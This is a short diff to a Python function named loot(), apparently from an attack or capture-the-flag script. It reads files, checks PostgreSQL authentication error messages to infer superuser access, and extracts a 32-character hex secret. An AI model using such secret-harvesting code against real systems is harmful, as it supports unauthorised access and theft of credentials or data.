@@ -31,7 +31,8 @@ def loot():
             said += path.read_text(errors="replace")
         except OSError as error:
             said += str(error)
-    print("Peer authentication failed" in said, "no password supplied" in said, flush=True)
+    superuser = "Peer authentication failed" in said or "not permitted to log in" in said
+    print(superuser, "no password supplied" in said, flush=True)
     found = re.search("[0-9a-f]{32}", said)
     return found[0] if found else "nothing"
 
